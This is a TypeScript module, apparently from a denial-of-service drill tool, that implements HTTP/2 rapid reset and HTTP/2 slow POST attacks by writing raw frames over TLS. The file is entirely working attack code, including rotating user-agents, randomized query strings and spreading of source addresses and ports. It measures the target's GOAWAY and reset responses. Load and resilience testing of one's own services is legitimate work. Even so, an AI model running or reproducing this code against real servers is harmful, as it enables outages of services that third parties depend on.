import type { Socket } from 'node:net';
import { openTargetSocket } from './tls-target.js';
import { recordAnswer } from './metrics.js';
import { randomToken } from './rng.js';
import { drillLocalPorts } from './local-ports.js';
import { holdConnections, type RunningSlow, type SlowEnv, type SlowSpec } from './slow.js';
import {
  goawayCode, H2_ERROR, H2_FRAME, H2_PREFACE, H2_SETTING, h2Data, h2FrameReader, h2Headers, h2HeadersOpen, h2RstStream, h2Settings,
  hpackGet, hpackRequest, responseStatus, wantsSettingsAck, type H2Frame,
} from './h2-frames.js';

/** What one HTTP/2 attack connection reports and does (openH2). */
interface H2Connection {
  /** The connection's one answer: `no-h2`, `goaway-<code>`, or `closed` by the target while held. */
  answer(what: string): void;
  /** Whether the attack still holds the socket (a close it made itself is no answer). */
  held(socket: Socket): boolean;
  /** h2 negotiated, preface and SETTINGS written. */
  ready(socket: Socket): void;
  /** Every other frame the target sends. */
  frame?(socket: Socket, f: H2Frame): void;
  /** SETTINGS the client announces. */
  settings?: ReadonlyArray<readonly [number, number]>;
}

/**
 * HTTP/2 attacks on raw frames (drill/h2-frames.ts), over TLS with ALPN h2: the rapid reset and
 * the slow POST on streams. Each connection negotiates h2 (offering http/1.1 too, as clients do:
 * a target without h2 is answered `no-h2` and the connection dropped), sends its preface and
 * SETTINGS, acknowledges the target's, and ends on its GOAWAY (counted by error code) — or is
 * counted `closed` when the target closes it without one.
 */
function openH2(env: SlowEnv, address: string | undefined, o: H2Connection): Socket {
  // http/1.1 offered too, as clients do: the handshake then tells a target without h2 apart.
  const { socket, ready } = openTargetSocket(env, address ? { localAddress: address, localPort: drillLocalPorts.next(address) } : {}, ['h2', 'http/1.1']);
  socket.setNoDelay(true);
  let answered = false;
  const answer = (what: string): void => { if (!answered) { answered = true; o.answer(what); } };
  socket.once(ready, () => {
    if ((socket as Socket & { alpnProtocol?: string | false }).alpnProtocol !== 'h2') { answer('no-h2'); socket.destroy(); return; }
    socket.write(Buffer.concat([H2_PREFACE, h2Settings(false, o.settings ?? [])]));
    o.ready(socket);
  });
  const read = h2FrameReader((f) => {
    if (wantsSettingsAck(f)) socket.write(h2Settings(true));
    else if (f.type === H2_FRAME.GOAWAY) { answer(`goaway-${goawayCode(f)}`); socket.destroy(); }
    else o.frame?.(socket, f);
  });
  socket.on('data', (buf: Buffer) => { try { read(buf); } catch { socket.destroy(); } });
  socket.once('close', () => { if (o.held(socket)) answer('closed'); });
  return socket;
}

/**
 * HTTP/2 rapid reset: each connection negotiates h2, then every interval writes
 * `streamsPerInterval` GET streams each cancelled at once — the client pays two frames a stream,
 * the server a request each. The frames are written by hand (drill/h2-frames.ts). A GOAWAY is the
 * target's answer (counted by its error code); a target that does not speak h2 is answered `no-h2`
 * and the connection dropped.
 */
export function startRapidReset(spec: SlowSpec, env: SlowEnv): RunningSlow {
  const perInterval = Math.max(1, spec.streamsPerInterval ?? 10);
  const nextId = new WeakMap<Socket, number>();
  let streamsSent = 0;
  const h = holdConnections(spec, env, {
    open: (_idx, address) => openH2(env, address, {
      answer: (what) => recordAnswer(h.counters, env.now(), what), held: (s) => h.held.has(s),
      ready: (s) => nextId.set(s, 1),
    }),
    trickle(socket) {
      const first = nextId.get(socket);
      if (first === undefined) return;
      const id = env.identities[first % env.identities.length]!;
      const frames: Buffer[] = [];
      for (let i = 0; i < perInterval; i++) {
        const stream = first + 2 * i;
        const path = `${spec.path}?q=${randomToken(env.rng, 6)}`;
        frames.push(h2Headers(stream, hpackGet(env.hostHeader, path, [['user-agent', id.userAgent], ['accept', '*/*']])), h2RstStream(stream, H2_ERROR.CANCEL));
      }
      nextId.set(socket, first + 2 * perInterval);
      streamsSent += perInterval;
      socket.write(Buffer.concat(frames));
    },
  });
  return { counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, get streamsSent() { return streamsSent; }, done: h.done };
}

/**
 * Slow POST on HTTP/2 streams: each connection holds `streamsPerInterval` streams open, each a
 * POST announcing `bodyBytes` whose body comes `chunkBytes` per stream every interval — the slow
 * POST of HTTP/1.1 with a connection's worth of requests on each connection. A stream the target
 * answers (its `:status`, e.g. 408) or resets is counted and replaced at the next interval, so the
 * connection keeps its streams; a GOAWAY ends the connection (and the pool opens another).
 * `streamsPerS` counts streams opened.
 */
export function startH2SlowPost(spec: SlowSpec, env: SlowEnv): RunningSlow {
  const perConnection = Math.max(1, spec.streamsPerInterval ?? 100);
  const chunk = Buffer.alloc(Math.max(1, spec.chunkBytes ?? 1), 0x61);
  interface Conn { nextId: number; open: Set<number>; identity: number }
  const conns = new WeakMap<Socket, Conn>();
  let streamsSent = 0;
  const openStreams = (socket: Socket, c: Conn): void => {
    const frames: Buffer[] = [];
    const id = env.identities[c.identity % env.identities.length]!;
    while (c.open.size < perConnection) {
      const stream = c.nextId;
      c.nextId += 2;
      c.open.add(stream);
      streamsSent++;
      frames.push(h2HeadersOpen(stream, hpackRequest('POST', env.hostHeader, spec.path, [
        ['user-agent', id.userAgent], ['content-type', 'application/x-www-form-urlencoded'], ['content-length', String(spec.bodyBytes)],
      ])));
    }
    if (frames.length > 0) socket.write(Buffer.concat(frames));
  };
  const h = holdConnections(spec, env, {
    open: (idx, address) => openH2(env, address, {
      answer: (what) => recordAnswer(h.counters, env.now(), what), held: (s) => h.held.has(s),
      ready(s) {
        const c: Conn = { nextId: 1, open: new Set(), identity: idx };
        conns.set(s, c);
        openStreams(s, c);
      },
      frame(s, f) {
        const c = conns.get(s);
        if (c === undefined || !c.open.has(f.streamId)) return;
        if (f.type === H2_FRAME.HEADERS) { c.open.delete(f.streamId); recordAnswer(h.counters, env.now(), responseStatus(f.payload)); }
        else if (f.type === H2_FRAME.RST_STREAM) { c.open.delete(f.streamId); recordAnswer(h.counters, env.now(), 'reset'); }
      },
      // No dynamic table on the answers: each one's :status can be read alone (h2-frames.ts responseStatus).
      settings: [[H2_SETTING.HEADER_TABLE_SIZE, 0]],
    }),
    trickle(socket) {
      const c = conns.get(socket);
      if (c === undefined) return;
      const frames: Buffer[] = [];
      for (const stream of c.open) frames.push(h2Data(stream, chunk));
      if (frames.length > 0) socket.write(Buffer.concat(frames));
      openStreams(socket, c);
    },
  });
  return { counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, get streamsSent() { return streamsSent; }, done: h.done };
}
